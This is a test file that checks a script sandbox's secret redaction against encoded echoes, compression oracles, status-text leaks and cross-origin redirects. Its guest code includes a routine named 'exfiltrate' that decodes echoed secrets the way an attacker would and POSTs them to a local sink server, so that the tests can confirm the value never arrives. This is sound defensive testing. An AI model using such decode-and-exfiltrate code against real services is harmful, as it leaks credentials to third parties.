// A secret's own origin echoes it back in every encoding real servers use; the script tries
// the trivial decode and POSTs the result to another allowed origin (the chain). The value
// must never arrive there: every echo is redacted to the placeholder first, including in a
// status text undici decoded as UTF-8. A hop that sends a secret asks for an uncompressed
// body, and a compressed one fails the fetch (its size would be a compression oracle).
import { createSandbox } from "scriptbox";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ENCODINGS, VALUE, containsValue, reflect, startServer, value, type Sandbox, type Server } from "./helpers.js";

let reflector: Server; // KEY is bound to it
let sink: Server; // allowed by net.allow, bound to nothing
let sandbox: Sandbox;

beforeAll(async () => {
  reflector = await startServer(reflect);
  sink = await startServer((_req, res) => res.end("thanks"));
  sandbox = await createSandbox({
    net: { allow: [`127.0.0.1:${reflector.port}`, `127.0.0.1:${sink.port}`] },
    secrets: { KEY: { value: VALUE, origins: [reflector.origin] } },
  });
});
afterAll(async () => {
  await sandbox?.dispose();
  await reflector?.close();
  await sink?.close();
});

/** Guest code: undoes each encoding the way an attacker would, to a string of byte-sized characters. */
const DECODE = `
const b64 = (s) => {
  const abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  s = s.replace(/-/g, "+").replace(/_/g, "/").replace(/=+$/, "");
  let bits = 0, n = 0, out = "";
  for (const c of s) { const v = abc.indexOf(c); if (v < 0) continue; bits = (bits << 6) | v; n += 6; if (n >= 8) { n -= 8; out += String.fromCharCode((bits >> n) & 255); } }
  return out;
};
const utf8 = (s) => { try { return unescape(encodeURIComponent(s)); } catch { return s; } }; // characters to UTF-8 bytes
const named = { amp: "&", lt: "<", gt: ">", quot: '"', eacute: "\\u00e9" };
const html = (s) => s.replace(/&#[xX]([0-9a-fA-F]+);/g, (_, h) => String.fromCharCode(parseInt(h, 16)))
  .replace(/&#([0-9]+);/g, (_, d) => String.fromCharCode(Number(d))).replace(/&([a-z]+);/g, (m, n) => named[n] ?? m);
const decode = (kind, s) => {
  try {
    if (kind.startsWith("json")) return JSON.parse('"' + s + '"');
    if (kind === "percent-form-latin1") return unescape(s.replace(/\\+/g, " "));
    if (kind.startsWith("percent")) return decodeURIComponent(s);
    if (kind.startsWith("html")) return html(s);
    if (kind === "base64-basic") return b64(s).slice(5);
    if (kind.startsWith("base64")) return b64(s);
  } catch (e) { return "undecodable: " + e.message; }
  return s;
};
const bytes = (s) => new Uint8Array([...s].map((c) => c.charCodeAt(0) & 255));
const exfiltrate = async (text, placeholder) => {
  const clean = text.split(placeholder).join("[P]");
  // Both readings: the characters as bytes, and as UTF-8.
  await fetch(input.sink, { method: "POST", body: bytes(clean) });
  await fetch(input.sink, { method: "POST", body: bytes(utf8(clean)) });
};
`;

function sinkReceivedValue(from: number): boolean {
  return sink.requests.slice(from).some((r) => containsValue(r.body) || containsValue(r.head) || containsValue(Buffer.from(r.url, "latin1")));
}

describe.each(Object.keys(ENCODINGS))("the bound origin echoes the value %s", (kind) => {
  test("in the body: the script sees the placeholder, and its decode sent to another origin carries no value", async () => {
    const before = sink.requests.length;
    const seen = await value(
      sandbox,
      `${DECODE}
       const placeholder = secret("KEY");
       const text = await (await fetch(input.reflector + "/body/" + input.kind, { headers: { "x-key": placeholder } })).text();
       const echoed = text.slice("you sent: ".length, -" (end)".length);
       const decoded = decode(input.kind, echoed);
       await exfiltrate(text, placeholder);
       await exfiltrate(decoded, placeholder);
       return { text, decoded, placeholder };`,
      { reflector: reflector.origin, sink: sink.origin, kind },
    );
    expect(seen.text).toContain(seen.placeholder);
    expect(seen.decoded).not.toContain(VALUE);
    expect(sink.requests.length - before).toBe(4); // the chain ran: everything reached the sink...
    expect(sinkReceivedValue(before)).toBe(false); // ...but never the value
  });

  test("in a response header", async () => {
    const before = sink.requests.length;
    const seen = await value(
      sandbox,
      `${DECODE}
       const placeholder = secret("KEY");
       const r = await fetch(input.reflector + "/header/" + input.kind, { headers: { "x-key": placeholder } });
       const header = r.headers.get("x-echo");
       // The header is the UTF-8 bytes of the echo, one character per byte.
       let text = header; try { text = decodeURIComponent(escape(header)); } catch {}
       const decoded = decode(input.kind, text.slice("you sent: ".length));
       await exfiltrate(header, placeholder);
       await exfiltrate(decoded, placeholder);
       return { header, decoded, placeholder };`,
      { reflector: reflector.origin, sink: sink.origin, kind },
    );
    expect(seen.header).toContain(seen.placeholder);
    expect(seen.decoded).not.toContain(VALUE);
    expect(sink.requests.length - before).toBe(4);
    expect(sinkReceivedValue(before)).toBe(false);
  });
});

describe("the status text", () => {
  test.each([
    ["as latin1 bytes (undici reads them as UTF-8: the é becomes U+FFFD)", "latin1"],
    ["as UTF-8", "utf8"],
  ])("the value echoed in the reason phrase %s is replaced whole", async (_name, how) => {
    const seen = await value(
      sandbox,
      `const placeholder = secret("KEY");
       const r = await fetch(input.reflector + "/status/" + input.how, { headers: { "x-key": placeholder } });
       return { statusText: r.statusText, placeholder };`,
      { reflector: reflector.origin, how },
    );
    expect(seen.statusText).toBe(`OK ${seen.placeholder}`);
  });
});

describe("content codings", () => {
  test("a hop that sends a secret asks for the body uncompressed, whatever the script asked; the echo is redacted", async () => {
    const seen = await value(
      sandbox,
      `const r = await fetch(input.reflector + "/negotiated-gzip/", { headers: { "x-key": secret("KEY"), "accept-encoding": "gzip, br" } });
       return { asked: r.headers.get("x-seen-accept-encoding"), coding: r.headers.get("content-encoding"), text: await r.text(), placeholder: secret("KEY") };`,
      { reflector: reflector.origin },
    );
    expect(seen).toEqual({ asked: "identity", coding: null, text: `you sent: x-key: ${seen.placeholder}\nx-guess: \n`, placeholder: seen.placeholder });
  });

  test("without a secret the transport asks for gzip, deflate and br, and decodes what comes", async () => {
    const seen = await value(
      sandbox,
      `const r = await fetch(input.reflector + "/negotiated-gzip/", { headers: { "x-key": "nothing secret" } });
       return { asked: r.headers.get("x-seen-accept-encoding"), coding: r.headers.get("content-encoding"), text: await r.text() };`,
      { reflector: reflector.origin },
    );
    expect(seen).toEqual({ asked: "gzip, deflate, br", coding: "gzip", text: "you sent: x-key: nothing secret\nx-guess: \n" });
  });

  test("a response in a content coding to a hop that sent a secret fails the fetch (its compressed size would be an oracle)", async () => {
    const seen = await value(
      sandbox,
      `const attempt = async (path, method = "GET") => {
         try { const r = await fetch(input.reflector + path, { method, headers: { "x-key": secret("KEY") } }); return { ok: true, status: r.status }; }
         catch (e) { return { name: e.name, message: e.message }; }
       };
       return [await attempt("/gzip/1"), await attempt("/gzip/1", "HEAD"), await attempt("/unknown-coding/")];`,
      { reflector: reflector.origin },
    );
    const refusal = {
      name: "TypeError",
      message: "fetch failed: the response came in a content coding, though the request, which carried a secret, asked for none (Accept-Encoding: identity); its compressed size could tell the script about the secret",
    };
    expect(seen).toEqual([refusal, refusal, refusal]);
  });

  test.each([1, 2, 5])("a body under %i stacked gzip codings is decoded", async (layers) => {
    const seen = await value(
      sandbox,
      `return await (await fetch(input.reflector + "/gzip/" + input.layers, { headers: { "x-key": "nothing secret" } })).text();`,
      { reflector: reflector.origin, layers },
    );
    expect(seen).toBe("you sent: nothing secret");
  });

  test("6 stacked codings (more than the transport decodes) fail the fetch: the body never reaches the script undecoded", async () => {
    const seen = await value(
      sandbox,
      `try {
         const r = await fetch(input.reflector + "/gzip/6", { headers: { "x-key": "nothing secret" } });
         return { ok: true, size: (await r.arrayBuffer()).byteLength };
       } catch (e) { return { name: e.name, message: e.message, cause: e.cause?.message }; }`,
      { reflector: reflector.origin },
    );
    expect(seen).toEqual({
      name: "TypeError",
      message: "fetch failed: cannot decode the response body: it has 6 content codings, more than the 5 the transport decodes",
      cause: "cannot decode the response body: it has 6 content codings, more than the 5 the transport decodes",
    });
  });

  test("a coding the transport does not know passes through a fetch that carried no secret", async () => {
    const seen = await value(
      sandbox,
      `const r = await fetch(input.reflector + "/unknown-coding/", { headers: { "x-key": "nothing secret" } });
       return { coding: r.headers.get("content-encoding"), text: await r.text() };`,
      { reflector: reflector.origin },
    );
    expect(seen).toEqual({ coding: "x-custom", text: "you sent: nothing secret" });
  });
});

test("a redirect chosen by the bound origin that carries the value (percent-encoded, lower case) to another origin is refused", async () => {
  const before = sink.requests.length;
  const to = `${sink.origin}/collect?v=${ENCODINGS["percent-lower"]!(VALUE)}`;
  // The bound origin puts the value into the redirect (simulated with a Location the test chose;
  // Authorization is dropped on the cross-origin hop, so only the URL could carry the value).
  const seen = await value(
    sandbox,
    `try { return await fetch(input.reflector + "/redirect/?to=" + encodeURIComponent(input.to), { headers: { authorization: "Bearer " + secret("KEY") } }).then(async (r) => "sent: " + r.status + " " + r.url + " " + await r.text()); }
     catch (e) { return e.message; }`,
    { reflector: reflector.origin, to },
  );
  expect(seen).toBe(`network policy: secret "KEY" refused: a redirect's Location carries its value; it may only be sent to ${reflector.origin}`);
  expect(sink.requests.length).toBe(before);
});
